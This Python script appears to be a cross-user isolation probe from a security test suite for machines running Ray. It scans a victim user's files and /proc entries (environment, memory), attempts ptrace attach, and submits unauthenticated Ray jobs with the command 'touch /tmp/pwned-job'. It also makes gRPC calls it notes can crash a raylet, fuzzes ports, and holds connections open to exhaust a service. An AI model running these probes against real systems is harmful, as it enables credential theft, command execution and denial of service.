"""What a stranger tries on a machine where a victim's work runs: sent there as text, and run there as the stranger.

Called as `python -c TEXT try VICTIM PORTS PATHS ROOTS`, with JSON for the victim's listening ports, for paths of which the
stranger has heard, and for where it looks for others; prints what it got hold of, as JSON. Called as
`python -c TEXT hold HOST PORT COUNT` it keeps connections open that say nothing, until its input ends.
"""

import ctypes
import json
import os
import pwd
import re
import select
import socket
import stat
import sys
import urllib.error
import urllib.request
from collections import Counter
from pathlib import Path
from typing import Any

PATHS = (
    "/",
    "/metrics",
    "/api/version",
    "/api/jobs/",
    "/api/job_agent/jobs/",
    "/api/cluster_status",
    "/api/v0/nodes",
    "/api/v0/logs?node_id=x",
    "/api/v0/logs/file?node_ip=127.0.0.1&filename=raylet.out",
    "/api/v0/actors",
    "/api/v0/tasks",
    "/nodes?view=summary",
    "/logical/actors",
    "/worker/traceback?pid=1",
    "/api/packages/gcs/x.zip",
    "/api/serve/applications/",
    "/api/profile_events",
    "/api/local_raylet_healthz",
    "/api/gcs_healthz",
    "/api/authentication_mode",
    "/logs/",
)
POSTS = {
    "/api/jobs/": {"entrypoint": "touch /tmp/pwned-job"},
    "/api/job_agent/jobs/": {"entrypoint": "touch /tmp/pwned-job"},
    "/get_or_create_runtime_env": {},
}
REFUSALS = (401, 403, 404, 405)
METHODS = (
    "/ray.rpc.ObjectManagerService/FreeObjects",
    "/ray.rpc.ObjectManagerService/Pull",
    "/ray.rpc.ObjectManagerService/Push",
    "/ray.rpc.syncer.RaySyncer/StartSync",
)
"""Of services that Ray's daemons speak with each other in C++ only; those that Python knows are looked up."""
NODE_ID = ("node_id", "0" * 56)
"""A raylet of Ray 2.60 dies of a call of `StartSync` without such metadata, before it looks for a token."""
REFUSED = ("UNAUTHENTICATED", "UNIMPLEMENTED", "UNAVAILABLE")
SECONDS = 5.0

Heard = tuple[dict[str, Any], "Counter[str]"]
"""What a port answered, and how often it refused with which code."""


def files(uid: int, roots: list[str]) -> list[str]:
    """What of the victim's can be read, written, listed or connected to."""
    found = []
    for root in roots:
        for directory, names, others in os.walk(root):
            for name in [*names, *others]:
                path = os.path.join(directory, name)
                try:
                    info = os.lstat(path)
                except OSError:
                    continue
                if info.st_uid == uid and not stat.S_ISLNK(info.st_mode) and any(os.access(path, mode) for mode in (4, 2, 1)):
                    found.append(path)
    return found


def opened(paths: list[str]) -> list[str]:
    """Which of some paths, that the stranger has learnt of, it can do something with."""
    found = []
    for path in paths:
        for attempt in (
            lambda p: os.close(os.open(p, os.O_RDONLY)),
            lambda p: os.close(os.open(p, os.O_WRONLY)),
            os.listdir,
            plug,
        ):
            try:
                attempt(path)
            except OSError:
                continue
            found.append(path)
            break
    return found


def plug(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(SECONDS)
        sock.connect(path)


def processes(uid: int) -> tuple[list[str], list[str]]:
    """What can be done to the victim's processes, and the arguments that anybody can read of them."""
    done, arguments = [], []
    libc = ctypes.CDLL(None, use_errno=True)
    for name in os.listdir("/proc"):
        if not name.isdecimal():
            continue
        path, pid = Path("/proc", name), int(name)
        try:
            if path.stat().st_uid != uid:
                continue
            words = (path / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if not words:
            continue  # A thread of the kernel, which has nothing.
        arguments.append(words)
        attempts: dict[str, Any] = {
            "environ": lambda path=path: (path / "environ").read_bytes(),
            "mem": lambda path=path: open(path / "mem", "rb").close(),
            "maps": lambda path=path: (path / "maps").read_bytes(),
            "fd": lambda path=path: os.listdir(path / "fd"),
            "cwd": lambda path=path: os.readlink(path / "cwd"),
            "signal": lambda pid=pid: os.kill(pid, 0),
            "ptrace": lambda pid=pid: trace(libc, pid),
        }
        for what, attempt in attempts.items():
            try:
                attempt()
            except OSError:
                continue
            done.append("%s of %s" % (what, arguments[-1][:80]))
    return done, arguments


def trace(libc: Any, pid: int) -> None:
    if libc.ptrace(16, pid, 0, 0) == -1:  # PTRACE_ATTACH of ptrace(2).
        raise OSError(ctypes.get_errno(), "ptrace")
    libc.ptrace(17, pid, 0, 0)


def http(host: str, port: int) -> Heard | None:
    """What is said by HTTP without a token and with a wrong one, by path; None if HTTP is not what is spoken there."""
    try:
        with socket.create_connection((host, port), SECONDS) as sock:
            sock.settimeout(SECONDS)
            sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            if not sock.recv(16).startswith(b"HTTP/1"):
                return None
    except OSError:
        return None
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    answers: dict[str, Any] = {}
    refusals: Counter[str] = Counter()
    for headers in ({}, {"Authorization": "Bearer " + "0" * 64}):
        requests = [(path, None) for path in PATHS] + [(path, json.dumps(body).encode()) for path, body in POSTS.items()]
        for path, body in requests:
            where = ("POST " if body else "GET ") + path + (" with a wrong token" if headers else "")
            request = urllib.request.Request("http://%s:%d%s" % (host, port, path), body, headers)
            if body:
                request.add_header("Content-Type", "application/json")
            try:
                with opener.open(request, timeout=SECONDS) as answer:
                    answers[where] = answer.read().decode("utf-8", "replace")
            except urllib.error.HTTPError as error:
                if error.code in REFUSALS:
                    refusals[str(error.code)] += 1
                else:
                    answers[where] = "%d %s" % (error.code, error.read().decode("utf-8", "replace"))
            except OSError:
                continue
    return answers, refusals


def methods() -> list[str]:
    """The methods of all services of Ray."""
    import ray

    found = set(METHODS)
    for path in Path(ray.__file__).parent.glob("core/generated/*_pb2_grpc.py"):
        found.update(re.findall(r"'(/ray\.[A-Za-z0-9_.]+/[A-Za-z0-9_]+)'", path.read_text()))
    return sorted(found)


def grpc_calls(host: str, port: int, names: list[str]) -> Heard:
    """What methods say to an empty request without a token, or with a wrong one; those that answer by what they answer."""
    import grpc

    answers: dict[str, Any] = {}
    refusals: Counter[str] = Counter()
    with grpc.insecure_channel("%s:%d" % (host, port), options=[("grpc.enable_http_proxy", 0)]) as channel:
        try:
            grpc.channel_ready_future(channel).result(SECONDS)
        except grpc.FutureTimeoutError:
            return answers, refusals
        for metadata in ((NODE_ID,), (NODE_ID, ("authorization", "Bearer " + "0" * 64))):
            plain = {"request_serializer": lambda text: text, "response_deserializer": lambda text: text}
            calls = [(name, channel.unary_unary(name, **plain).future(b"", SECONDS, metadata)) for name in names]
            for name, call in calls:
                try:
                    code = "OK %r" % call.result()[:300]
                except grpc.RpcError:
                    code = call.code().name
                if code in REFUSED:
                    refusals[code] += 1
                else:
                    answers.setdefault(code, []).append(name)
    return answers, refusals


def noise(host: str, port: int) -> None:
    """Speak nonsense to whoever listens; what comes of it shows in what the victim's work does afterwards."""
    forged = (
        json.dumps({"op": "stop"}).encode() + b"\n" + json.dumps({"op": "run", "request_id": "x", "run_dir": "/tmp/x"}).encode()
    )
    proof = b'{"challenge": "' + b"0" * 32 + b'"}\n{"proof": "' + b"0" * 64 + b'"}\n'
    for text in (b"\0" * 4096, proof, proof + b"0" * 64 + b" " + forged + b"\n", forged + b"\n", os.urandom(65536), b"[" * 9999):
        try:
            with socket.create_connection((host, port), SECONDS) as sock:
                sock.settimeout(0.1)
                sock.sendall(text)
                sock.recv(100)
        except OSError:
            continue


def hold(host: str, port: int, count: int) -> None:
    """Keep connections open that say nothing; one that is closed is opened again."""
    held: list[socket.socket] = []
    while True:
        for sock in [sock for sock in held if gone(sock)]:
            held.remove(sock)
            sock.close()
        try:
            while len(held) < count:
                held.append(socket.create_connection((host, port), SECONDS))
                held[-1].setblocking(False)
        except OSError:
            pass
        print(len(held), flush=True)
        if select.select([sys.stdin], [], [], 0.2)[0]:
            return


def gone(sock: socket.socket) -> bool:
    try:
        return sock.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def main() -> None:
    if sys.argv[1] == "hold":
        return hold(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
    victim, (ports, known, roots) = sys.argv[2], map(json.loads, sys.argv[3:])
    uid = pwd.getpwnam(victim).pw_uid
    done, arguments = processes(uid)
    names = methods() if ports else []
    answers, refusals = {}, {}
    for host, port in ports:
        address = "%s:%d" % (host, port)
        answers[address], refusals[address] = http(host, port) or grpc_calls(host, port, names)
        noise(host, port)
    heard = {"answers": answers, "refusals": refusals}
    print(json.dumps({"files": files(uid, roots), "opened": opened(known), "processes": done, "arguments": arguments, **heard}))


if __name__ == "__main__":
    main()
